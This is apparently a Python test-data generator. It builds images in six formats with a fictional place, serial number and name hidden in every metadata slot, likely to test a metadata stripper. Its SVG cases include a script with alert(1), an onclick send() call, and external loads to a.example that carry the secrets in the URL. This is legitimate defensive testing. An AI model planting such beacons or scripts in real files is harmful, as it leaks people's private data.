"""Pictures of every format with a place, a device's serial number and a person planted wherever metadata can stand.

The secrets belong to nobody. `planted` gives (name, content, suffix) of each; the pictures are drawn here, by Pillow.
"""

import base64
import io
import struct
import zlib
from collections.abc import Callable, Iterator
from itertools import pairwise

from PIL import Image, ImageCms

PLACE, SERIAL, PERSON = "37.0000N 127.0000E Malmoi-dong", "SN-00-MALMOI-77", "Do Haram"
SECRETS = (PLACE, SERIAL, PERSON)
NOTE = " | ".join(SECRETS).encode()
XMP = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><s>{SERIAL}</s><gps>{PLACE}</gps><by>{PERSON}</by></x:xmpmeta>'.encode()
PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
Put = Callable[[bytes], bytes]


def exif(turned: int = 1, order: str = ">") -> bytes:
    """An Exif block: orientation, camera, artist, a maker's note, a GPS directory and a thumbnail of its own."""
    texts = {0x010F: b"Malmoi", 0x0110: SERIAL.encode(), 0x013B: PERSON.encode(), 0x8298: PLACE.encode(), 0x927C: NOTE}
    fields, data = [(0x0112, 3, 1, struct.pack(f"{order}HH", turned, 0))], b""
    start = 8 + 2 + 12 * (len(texts) + 2) + 4
    for tag, text in texts.items():
        fields.append((tag, 2, len(text), struct.pack(f"{order}I", start + len(data))))
        data += text + b"\0"
    fields.append((0x8825, 4, 1, struct.pack(f"{order}I", start + len(data))))
    head = (b"MM" if order == ">" else b"II") + struct.pack(f"{order}HI", 42, 8) + struct.pack(f"{order}H", len(fields))
    rows = b"".join(struct.pack(f"{order}HHI", *field[:3]) + field[3] for field in sorted(fields))
    return head + rows + struct.pack(f"{order}I", start + len(data)) + data + b"\xff\xd8\xff\xdb" + NOTE + b"\xff\xd9"


def drawing(mode: str = "RGB", shift: int = 0) -> Image.Image:
    """A small picture with edges and slopes."""
    picture = Image.new("RGB", (37, 23))
    picture.putdata([((x * 7 + shift) % 256, (y * 11) % 256, (x * y) % 256) for y in range(23) for x in range(37)])
    return picture.convert(mode)


def saved(picture: Image.Image, **given: object) -> bytes:
    """The bytes of a picture."""
    file = io.BytesIO()
    picture.save(file, **given)  # type: ignore[arg-type]
    return file.getvalue()


def _jpegs() -> Iterator[tuple[str, bytes]]:
    yield "baseline", saved(drawing(), format="JPEG", quality=85, icc_profile=PROFILE)
    yield "progressive", saved(drawing(), format="JPEG", progressive=True)
    yield "grey", saved(drawing("L"), format="JPEG")
    yield "cmyk", saved(drawing("CMYK"), format="JPEG")
    yield "restarts", saved(drawing(), format="JPEG", restart_marker_blocks=1, subsampling=0)


def _segment(marker: int, body: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body


def _jpeg_places() -> Iterator[tuple[str, Put]]:
    def first(segment: bytes) -> Put:
        return lambda content: content[:2] + segment + content[2:]

    yield "exif", first(_segment(0xE1, b"Exif\0\0" + exif()))
    yield "exif of a turned picture", first(_segment(0xE1, b"Exif\0\0" + exif(6, "<")))
    yield "xmp", first(_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + XMP))
    yield "extended xmp", first(_segment(0xE1, b"http://ns.adobe.com/xmp/extension/\0" + b"0" * 40 + XMP))
    yield "iptc", first(_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0" + struct.pack(">I", len(NOTE)) + NOTE))
    yield "comment", first(_segment(0xFE, NOTE))
    yield "comment behind fill bytes", first(b"\xff\xff" + _segment(0xFE, NOTE))
    yield "thumbnail of jfxx", first(_segment(0xE0, b"JFXX\0\x10" + NOTE))
    yield "other pictures", first(_segment(0xE2, b"MPF\0" + NOTE))
    yield "flashpix", first(_segment(0xE2, b"FPXR\0" + NOTE))
    for number in (3, 5, 10, 11, 12, 15):
        yield f"application {number}", first(_segment(0xE0 + number, b"MALMOI\0" + NOTE))
    yield "behind the end", lambda content: content + NOTE
    yield (
        "another picture behind the end",
        lambda content: content + first(_segment(0xE1, b"Exif\0\0" + exif()))(content),
    )
    yield "before the scan", lambda content: _before(content, b"\xff\xda", _segment(0xFE, NOTE))


def _before(content: bytes, sign: bytes, piece: bytes) -> bytes:
    place = content.rindex(sign)
    return content[:place] + piece + content[place:]


def _pngs() -> Iterator[tuple[str, bytes]]:
    yield "colours", saved(drawing(), format="PNG", icc_profile=PROFILE)
    yield "clear", saved(drawing("RGBA"), format="PNG")
    yield "palette", saved(drawing("P"), format="PNG", transparency=3, optimize=True)
    yield "grey of 16 bits", saved(Image.frombytes("I;16", (37, 23), bytes(range(46)) * 37), format="PNG")
    yield (
        "moving",
        saved(drawing(), format="PNG", save_all=True, append_images=[drawing(shift=90)], duration=70, loop=2),
    )


def chunk(kind: bytes, body: bytes) -> bytes:
    """A chunk of PNG."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png_places() -> Iterator[tuple[str, Put]]:
    def early(piece: bytes) -> Put:
        return lambda content: content[:33] + piece + content[33:]

    def late(piece: bytes) -> Put:
        return lambda content: content[:-12] + piece + content[-12:]

    yield "text", early(chunk(b"tEXt", b"Author\0" + NOTE))
    yield "text behind the pixels", late(chunk(b"tEXt", b"Author\0" + NOTE))
    yield "packed text", early(chunk(b"zTXt", b"Author\0\0" + zlib.compress(NOTE, 0)))
    yield "xmp", early(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + XMP))
    yield "exif", early(chunk(b"eXIf", exif()))
    yield "exif of a turned picture", early(chunk(b"eXIf", exif(8)))
    yield "raw profile", early(chunk(b"tEXt", b"Raw profile type exif\0" + NOTE))
    yield "private chunk", early(chunk(b"maLm", NOTE))
    yield "provenance", early(chunk(b"caBX", NOTE))
    yield "suggested palette", early(chunk(b"sPLT", NOTE[:79] + b"\0\x08" + NOTE))
    yield "behind the end", lambda content: content + NOTE
    yield "a chunk behind the end", lambda content: content + chunk(b"tEXt", b"Author\0" + NOTE)


def _webps() -> Iterator[tuple[str, bytes]]:
    yield "lossy", saved(drawing(), format="WEBP", icc_profile=PROFILE)
    yield "lossless", saved(drawing("RGBA"), format="WEBP", lossless=True)
    yield "plain", saved(drawing(), format="WEBP")
    yield (
        "moving",
        saved(drawing(), format="WEBP", save_all=True, append_images=[drawing(shift=90)], duration=70, loop=2),
    )


def _riff(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def _webp_places() -> Iterator[tuple[str, Put]]:
    def inside(piece: bytes, flag: int = 0) -> Put:
        def put(content: bytes) -> bytes:
            body = bytearray(content[12:])
            if flag and body[:4] == b"VP8X":
                body[8] |= flag
            whole = b"WEBP" + bytes(body) + piece
            return b"RIFF" + struct.pack("<I", len(whole)) + whole

        return put

    yield "exif", inside(_riff(b"EXIF", exif()), 8)
    yield "exif of a turned picture", inside(_riff(b"EXIF", b"Exif\0\0" + exif(3)), 8)
    yield "xmp", inside(_riff(b"XMP ", XMP), 4)
    yield "unknown chunk", inside(_riff(b"MALM", NOTE))
    yield "behind the end", lambda content: content + NOTE


def _gifs() -> Iterator[tuple[str, bytes]]:
    yield "still", saved(drawing("P"), format="GIF")
    yield "clear", saved(drawing("P"), format="GIF", transparency=5)
    yield (
        "moving",
        saved(drawing("P"), format="GIF", save_all=True, append_images=[drawing(shift=90)], duration=70, loop=2),
    )


def _blocks(data: bytes) -> bytes:
    pieces = [data[first:last] for first, last in pairwise([*range(0, len(data), 255), len(data)])]
    return b"".join(bytes((len(piece),)) + piece for piece in pieces) + b"\0"


def _gif_places() -> Iterator[tuple[str, Put]]:
    def before_end(piece: bytes) -> Put:
        return lambda content: content[:-1].replace(b"GIF87a", b"GIF89a") + piece + b"\x3b"

    def first(piece: bytes) -> Put:
        def put(content: bytes) -> bytes:
            at = 13 + (3 * 2 ** ((content[10] & 7) + 1) if content[10] & 0x80 else 0)
            return b"GIF89a" + content[6:at] + piece + content[at:]

        return put

    yield "comment", first(b"\x21\xfe" + _blocks(NOTE))
    yield "comment at the end", before_end(b"\x21\xfe" + _blocks(NOTE))
    yield "xmp", first(b"\x21\xff\x0bXMP DataXMP" + XMP + b"\x01" + bytes(range(255, -1, -1)) + b"\0")
    yield "xmp in blocks", first(b"\x21\xff\x0bXMP DataXMP" + _blocks(XMP))
    yield "application", first(b"\x21\xff\x0bMALMOI  1.0" + _blocks(NOTE))
    yield "behind the loop", first(b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x02\0" + _blocks(NOTE))
    yield "plain text", before_end(b"\x21\x01\x0c" + b"\0" * 12 + _blocks(NOTE))
    yield "behind the end", lambda content: content + NOTE


def _bmps() -> Iterator[tuple[str, bytes]]:
    yield "colours", saved(drawing(), format="BMP")
    yield "palette", saved(drawing("P"), format="BMP")


def _bmp_places() -> Iterator[tuple[str, Put]]:
    def gap(content: bytes) -> bytes:
        offset = struct.unpack_from("<I", content, 10)[0]
        return content[:10] + struct.pack("<I", offset + len(NOTE)) + content[14:offset] + NOTE + content[offset:]

    yield "between palette and pixels", gap
    yield "behind the pixels", lambda content: content + NOTE


def _svgs() -> Iterator[tuple[str, bytes]]:
    for name, shape in (("circle", '<circle cx="9" cy="9" r="4"/>'), ("text", '<text x="1" y="9">그림</text>')):
        yield name, f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">{shape}</svg>'.encode()


def _svg_places() -> Iterator[tuple[str, Put]]:
    note, photo = NOTE.decode(), base64.b64encode(_jpeg_exif()).decode()
    inside = {
        "metadata": f"<metadata><rdf:RDF xmlns:rdf='urn:rdf'><c>{note}</c></rdf:RDF></metadata>",
        "title": f"<title>{note}</title>",
        "description": f"<desc>{note}</desc>",
        "comment": f"<!-- {note} -->",
        "script": f"<script>/* {note} */ alert(1)</script>",
        "foreign object": f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>{note}</body></foreignObject>",
        "link": f"<a href='https://a.example/?{note}'><rect width='3' height='3'/></a>",
        "outside picture": f"<image href='https://a.example/{note}.png' width='3' height='3'/>",
        "outside picture by xlink": f"<image xmlns:x='http://www.w3.org/1999/xlink' x:href='//a.example/{note}'/>",
        "picture inside": f"<image href='data:image/jpeg;base64,{photo}' width='3' height='3'/>",
        "outside shape": f"<use href='https://a.example/{note}#x'/>",
        "import": f"<style>@import url('https://a.example/{note}');</style>",
        "style": f"<style>rect {{ fill: url(https://a.example/{note}) }}</style>",
        "style in hidden letters": f"<style>rect {{ fill: \\75rl(https://a.example/{note}) }}</style>",
        "comment of a style": f"<style>/* {note} */ rect {{ fill: red }}</style>",
        "attribute": f"<rect fill=\"url('https://a.example/{note}')\" width='3' height='3'/>",
        "event": f"<rect onclick=\"send('{note}')\" width='3' height='3'/>",
        "editor": f"<g xmlns:i='http://www.inkscape.org/namespaces/inkscape' i:export-filename='/home/{note}'/>",
        "data attribute": f"<g data-owner='{note}'/>",
        "animated address": f"<set attributeName='href' to='https://a.example/{note}'/>",
        "base": f"<g xml:base='https://a.example/{note}/'/>",
        "instruction": f"<?malmoi {note}?>",
    }
    for name, piece in inside.items():
        yield name, lambda content, piece=piece: content.replace(b"</svg>", piece.encode() + b"</svg>")
    yield "style sheet", lambda content: f"<?xml-stylesheet href='https://a.example/{note}'?>".encode() + content
    yield "behind the end", lambda content: content + f"<!-- {note} -->".encode()


def _jpeg_exif() -> bytes:
    content = saved(drawing(), format="JPEG")
    return content[:2] + _segment(0xE1, b"Exif\0\0" + exif()) + content[2:]


FORMATS = {
    ".jpg": (_jpegs, _jpeg_places),
    ".png": (_pngs, _png_places),
    ".webp": (_webps, _webp_places),
    ".gif": (_gifs, _gif_places),
    ".bmp": (_bmps, _bmp_places),
    ".svg": (_svgs, _svg_places),
}


def planted() -> Iterator[tuple[str, bytes, str]]:
    """Every picture of every format with the secrets in every place of it."""
    for suffix, (pictures, places) in FORMATS.items():
        for name, content in pictures():
            for place, put in places():
                yield f"{suffix[1:]}, {name}, {place}", put(content), suffix
